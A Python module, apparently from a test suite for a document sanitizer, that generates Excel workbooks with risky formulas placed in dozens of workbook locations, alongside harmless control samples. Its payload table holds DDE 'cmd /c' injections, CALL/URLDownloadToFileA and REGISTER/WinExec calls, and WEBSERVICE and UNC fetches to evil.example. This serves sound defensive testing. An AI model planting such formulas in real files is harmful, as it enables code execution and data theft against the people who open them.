"""Every formula that reaches out of the workbook, in every place that can hold a formula (ECMA-376 part 1, 18.17)."""
from . import excel, powerpoint, word
from .package import XML, escaped
from .sample import Sample, slug

# name -> formula without its "="; {m} is the marker
KINDS = {
	'dde': "cmd|'/c {m}'!A0",
	'dde-quoted': "'cmd'|'/c {m}'!'A0'",
	'dde-excel': 'Excel|{m}!R1C1',
	'dde-added': "1+cmd|'/c {m}'!A0",
	'dde-in-if': "IF(TRUE,MSEXCEL|'\\..\\..\\cmd.exe /c {m}'!'',1)",
	'external-index': '[1]{m}!A1',
	'external-index-name': '[1]!{m}',
	'external-book': "'[{m}.xlsx]S'!A1",
	'external-path': "'C:\\x\\[{m}.xlsx]S'!A1",
	'external-unc': "'\\\\evil.example\\s\\[{m}.xlsx]S'!A1",
	'external-url': "'http://evil.example/[{m}.xlsx]S'!A1",
	'external-sum': "SUM('[{m}.xlsx]S'!A1:A9)+1",
	'external-3d': "SUM('[{m}.xlsx]S1:S9'!A1)",
	'CALL': 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example/{m}","x",0,0)',
	'REGISTER': 'REGISTER("Kernel32","WinExec","JCJ","{m}",,1,9)',
	'REGISTER.ID': 'REGISTER.ID("{m}","x","J")',
	'EXEC': 'EXEC("cmd /c {m}")',
	'RUN': 'RUN("{m}")',
	'EVALUATE': 'EVALUATE("{m}")',
	'FORMULA': 'FORMULA("{m}",A1)',
	'FOPEN': 'FOPEN("{m}",3)',
	'GET.WORKSPACE': 'GET.WORKSPACE(1)&"{m}"',
	'GET.CELL': 'GET.CELL(5,A1)&"{m}"',
	'ALERT': 'ALERT("{m}")',
	'HALT': 'HALT()&"{m}"',
	'WEBSERVICE': 'WEBSERVICE("http://evil.example/{m}")',
	'WEBSERVICE-xlfn': '_xlfn.WEBSERVICE("http://evil.example/{m}")',
	'WEBSERVICE-case': 'webService ( "http://evil.example/"&A1&"{m}")',
	'WEBSERVICE-inner': 'IFERROR(LEN(_xlfn.WEBSERVICE("http://evil.example/{m}")),0)',
	'FILTERXML-web': '_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://evil.example/{m}"),"//x")',
	'IMAGE': '_xlfn.IMAGE("http://evil.example/{m}.png")',
	'HYPERLINK-unc': 'HYPERLINK("\\\\evil.example\\{m}","x")',
	'HYPERLINK-js': 'HYPERLINK("javascript:{m}")',
	'HYPERLINK-joined': 'HYPERLINK("fi"&"le:///c:/{m}","x")',
	'HYPERLINK-ms': 'HYPERLINK("ms-msdt:/id {m}","x")',
	'RTD': 'RTD("evil.server",,"{m}")',
	'SQL.REQUEST': 'SQL.REQUEST("DSN=x","{m}")',
	'STOCKHISTORY': '_xlfn.STOCKHISTORY("{m}",TODAY())',
	'TRANSLATE': '_xlfn.TRANSLATE("{m}","ja","en")',
	'PY': '_xlfn._xlws.PY(0,1,"{m}")',
	'CUBEVALUE': 'CUBEVALUE("{m}","[Measures].[x]")',
	'COPILOT': '_xlfn.COPILOT("{m}")',
	'user-function': '{m}(1)',
	'add-in-function': '_xll.{m}(1)',
	'undefined-xludf': '_xludf.{m}(1)',
	'macro-sheet-call': 'Macro1!{m}()',
	'pipe': "a|b!'{m}'",
}

SHEET1 = 'xl/worksheets/sheet1.xml'
EXT = '<extLst><ext uri="%s" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">%s</ext></extLst>'


def cell(inner, at='A9'):
	return '<row r="%s"><c r="%s">%s<v>1</v></c></row>' % (at[1:], at, inner)


def in_rows(inner):
	return lambda p, f: p.at(SHEET1, 'ROWS', cell(inner.replace('{f}', f)))


def in_text(part, anchor, xml):
	return lambda p, f: p.at(part, anchor, xml.replace('{f}', f))


def chart_place(xml):
	return lambda p, f: p.replace('xl/charts/chart1.xml', '<c:f>売上!$B$2:$B$3</c:f>', xml.replace('{f}', f))


def chart_extended(p, f):
	"""A chart of the newer kind, with its formula in cx:f."""
	p.add('xl/charts/chartEx1.xml', XML + '<cx:chartSpace xmlns:cx="http://schemas.microsoft.com/office/drawing/2014/chartex"><cx:chartData><cx:data id="0">'
		'<cx:numDim type="val"><cx:f>%s</cx:f><cx:lvl ptCount="1" formatCode="General"><cx:pt idx="0">1</cx:pt></cx:lvl></cx:numDim></cx:data></cx:chartData><cx:chart>'
		'<cx:plotArea><cx:plotAreaRegion><cx:series layoutId="waterfall"><cx:dataId val="0"/></cx:series></cx:plotAreaRegion></cx:plotArea></cx:chart></cx:chartSpace>' % f,
		'application/vnd.ms-office.chartex+xml')
	p.relate('xl/drawings/drawing1.xml', 'http://schemas.microsoft.com/office/2014/relationships/chartEx', '../charts/chartEx1.xml')


def pivot(p, f):
	"""A calculated field of a pivot cache."""
	p.add('xl/pivotCache/pivotCacheDefinition1.xml', XML + '<pivotCacheDefinition %s recordCount="0"><cacheSource type="worksheet"><worksheetSource ref="A1:B4" sheet="売上"/>'
		'</cacheSource><cacheFields count="2"><cacheField name="品名" numFmtId="0"><sharedItems/></cacheField><cacheField name="計算" numFmtId="0" formula="%s" databaseField="0"/>'
		'</cacheFields></pivotCacheDefinition>' % (excel.S, f), excel.SHEET + 'pivotCacheDefinition+xml')
	number = p.relate('xl/workbook.xml', 'pivotCacheDefinition', 'pivotCache/pivotCacheDefinition1.xml')
	p.at('xl/workbook.xml', 'BOOK', '<pivotCaches><pivotCache cacheId="1" r:id="%s"/></pivotCaches>' % number)


# place -> how a formula gets there
PLACES = {
	'cell': in_rows('<f>{f}</f>'),
	'cell-blank': in_rows('<f xml:space="preserve">  \n{f} </f>'),
	'cell-equals': in_rows('<f>={f}</f>'),
	'shared': in_rows('<f t="shared" ref="A9:A10" si="0">{f}</f>'),
	'array': in_rows('<f t="array" ref="A9">{f}</f>'),
	'dynamic-array': in_rows('<f t="array" aca="1" ref="A9:B9" ca="1">{f}</f>'),
	'cdata': lambda p, f: p.at(SHEET1, 'ROWS', cell('<f><![CDATA[%s]]></f>' % f.replace('&quot;', '"').replace('&amp;', '&'))),
	'pieces': lambda p, f: p.at(SHEET1, 'ROWS', cell('<f>%s</f>' % '<!-- x -->'.join((f[:2], f[2:])))) if '&' not in f[:3] else in_rows('<f>{f}</f>')(p, f),
	'other-sheet': lambda p, f: p.at('xl/worksheets/sheet3.xml', 'ROWS', cell('<f>%s</f>' % f)),
	'name': in_text('xl/workbook.xml', 'NAMES', '<definedName name="危険">{f}</definedName>'),
	'name-hidden': in_text('xl/workbook.xml', 'NAMES', '<definedName name="危険" hidden="1" localSheetId="0">{f}</definedName>'),
	'name-print-area': in_text('xl/workbook.xml', 'NAMES', '<definedName name="_xlnm.Print_Area" localSheetId="0">{f}</definedName>'),
	'name-auto-open': in_text('xl/workbook.xml', 'NAMES', '<definedName name="_xlnm.Auto_Open">{f}</definedName>'),
	'name-function': in_text('xl/workbook.xml', 'NAMES', '<definedName name="危険" function="1" vbProcedure="1" xlm="1">{f}</definedName>'),
	'condition': in_text(SHEET1, 'CF', '<conditionalFormatting sqref="A9"><cfRule type="expression" dxfId="0" priority="9"><formula>{f}</formula></cfRule></conditionalFormatting>'),
	'condition-scale': in_text(SHEET1, 'CF', '<conditionalFormatting sqref="A9"><cfRule type="colorScale" priority="9"><colorScale><cfvo type="formula" val="{f}"/><cfvo type="max"/>'
		'<color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>'),
	'validation': in_text(SHEET1, 'DV', '<dataValidation type="list" sqref="A9"><formula1>{f}</formula1></dataValidation>'),
	'validation-second': in_text(SHEET1, 'DV', '<dataValidation type="whole" sqref="A9"><formula1>0</formula1><formula2>{f}</formula2></dataValidation>'),
	'x14-condition': in_text(SHEET1, 'EXT', EXT % ('{78C0D931-6437-407d-A8EE-F0AAD7539E65}', '<x14:conditionalFormattings><x14:conditionalFormatting '
		'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="3" id="{00000000-0000-0000-0000-000000000001}"><xm:f>{f}</xm:f>'
		'</x14:cfRule><xm:sqref>A9</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings>')),
	'x14-validation': in_text(SHEET1, 'EXT', EXT % ('{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}', '<x14:dataValidations count="1" '
		'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation type="list"><x14:formula1><xm:f>{f}</xm:f></x14:formula1><xm:sqref>A9</xm:sqref>'
		'</x14:dataValidation></x14:dataValidations>')),
	'sparkline': in_text(SHEET1, 'EXT', EXT % ('{05C60535-1F16-4fd2-B633-F4F36F0B64E0}', '<x14:sparklineGroups xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
		'<x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>{f}</xm:f><xm:sqref>A9</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups>')),
	'table-column': in_text('xl/tables/table1.xml', 'COLUMN', '<calculatedColumnFormula>{f}</calculatedColumnFormula>'),
	'table-total': in_text('xl/tables/table1.xml', 'COLUMN', '<totalsRowFormula>{f}</totalsRowFormula>'),
	'chart-value': chart_place('<c:f>{f}</c:f>'),
	'chart-extension': in_text('xl/charts/chart1.xml', 'SERIES', '<c:extLst><c:ext uri="{02D57815-91ED-43cb-92C2-25804820EDAC}" '
		'xmlns:c15="http://schemas.microsoft.com/office/drawing/2012/chart"><c15:datalabelsRange><c15:f>{f}</c15:f></c15:datalabelsRange></c:ext></c:extLst>'),
	'chart-new': chart_extended,
	'pivot-field': pivot,
	'drawing-text': in_text('xl/drawings/drawing1.xml', 'ANCHORS', '<xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0'
		'</xdr:rowOff></xdr:from><xdr:to><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:sp macro="" textlink="{f}">'
		'<xdr:nvSpPr><xdr:cNvPr id="8" name="x"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:sp><xdr:clientData/></xdr:twoCellAnchor>'),
	'drawing-macro': in_text('xl/drawings/drawing1.xml', 'ANCHORS', '<xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0'
		'</xdr:rowOff></xdr:from><xdr:to><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:sp macro="{f}" textlink="">'
		'<xdr:nvSpPr><xdr:cNvPr id="8" name="x"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:sp><xdr:clientData/></xdr:twoCellAnchor>'),
	'vml-macro': in_text('xl/drawings/vmlDrawing1.vml', 'CLIENT', '<x:FmlaMacro>{f}</x:FmlaMacro>'),
	'vml-link': in_text('xl/drawings/vmlDrawing1.vml', 'CLIENT', '<x:FmlaLink>{f}</x:FmlaLink>'),
	'protected-range': in_text(SHEET1, 'AFTERDATA', '<scenarios><scenario name="{f}"><inputCells r="B2" val="{f}"/></scenario></scenarios>'),
}
# places where a formula is only text, which may stay
TEXT_PLACES = {'protected-range'}


def placed(place, formula):
	def make(mark, keep):
		p = excel.package(keep)
		PLACES[place](p, escaped(formula.replace('{m}', mark)))
		return p.bytes()
	return make


HARMLESS = {
	'sum': 'SUM(B2:B4)', 'if-text': 'IF(B2>1,"{k}","")', 'other-sheet': 'メモ!A1', 'quoted-sheet': "'集計'!A1", 'table': '表1[列1]', 'lookup': 'VLOOKUP("{k}",A1:C4,2,FALSE)',
	'array-constant': 'SUM({1,2;3,4})', 'new-function': '_xlfn.CONCAT("{k}",A1)', 'link': 'HYPERLINK("https://www.example.jp/{k}","x")', 'name': 'SUM(範囲)',
	'text-like-dde': '"cmd|x!"&"{k}"', 'text-like-book': '"[1]{k}!"', 'error': 'IFERROR(1/0,"{k}")', 'percent': 'B2*10%', 'union': 'SUM((A1:B2,C3))',
}


def samples():
	for kind, formula in KINDS.items():
		for place in PLACES:
			if place in TEXT_PLACES:
				continue
			yield Sample('formulas/%s-%s.xlsx' % (slug(kind), place), 'xlsx/formulas', placed(place, formula),
				findings=('formula-to-value', 'external-to-value', 'name-removed', 'macro-removed', 'external-removed') if place in ('cell', 'array', 'name') else (),
				telling=(kind, place) in TELLING, quiet=kind == 'user-function')
	for kind, formula in HARMLESS.items():
		for place in ('cell', 'shared', 'array', 'name', 'condition', 'validation'):
			if place == 'validation' and ('{1' in formula):
				continue
			def make(mark, keep, formula=formula, place=place):
				p = excel.package(keep)
				PLACES[place](p, escaped(formula.replace('{k}', keep)))
				return p.bytes()
			yield Sample('harmless/formula-%s-%s.xlsx' % (kind, place), 'harmless', make, verdicts=('clean',), harmless=True,
				checks=('formula:' + formula.replace('{k}', ''),) if '{k}' not in formula else ())


TELLING = {('dde', 'cell'), ('external-url', 'name'), ('WEBSERVICE', 'condition'), ('CALL', 'name-auto-open'), ('external-index', 'chart-value'), ('RTD', 'array')}
